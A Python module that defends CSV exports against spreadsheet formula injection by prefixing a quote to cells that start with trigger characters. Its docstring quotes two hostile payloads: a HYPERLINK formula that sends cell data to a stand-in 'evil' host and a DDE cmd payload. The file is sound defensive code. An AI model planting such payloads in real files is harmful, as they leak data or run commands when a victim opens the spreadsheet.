"""CSV cells a spreadsheet would run as formulas, neutralised (CSV injection).

Outputs, inputs, notes, system and user names come from models and people we do not control; a
cell such as ``=HYPERLINK("http://evil/?"&A1,"x")`` or ``+1+cmd|' /C calc'!A0`` is evaluated by
Excel, LibreOffice and Google Sheets when the exported CSV is opened. Following OWASP's "CSV
Injection" advice, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading single quote, which spreadsheets show as text and do not evaluate.

Only CSV is meant to be opened in a spreadsheet: JSON Lines and Parquet are read by programs and
keep the exact text. Numeric columns are left alone (a negative agreement would be a number, not
a formula). No Django import: the export calls it on each Arrow chunk.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def neutralise_table(table):
    """The Arrow table with every string cell that starts with a trigger prefixed by ``'``;
    nulls stay null. Vectorised, and a column without a trigger is not copied: looking at the
    first character only costs a quarter of a regex plus a full rewrite of every column."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            first = pc.utf8_slice_codeunits(column, 0, 1)
            formula = pc.is_in(first, value_set=pa.array(FORMULA_TRIGGERS, column.type))
            if pc.any(formula).as_py():
                quoted = pc.binary_join_element_wise(
                    pa.scalar("'", column.type), pc.filter(column, formula), pa.scalar("", column.type)
                )
                column = pc.replace_with_mask(
                    column.combine_chunks(), formula.combine_chunks(), quoted.combine_chunks()
                )
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)
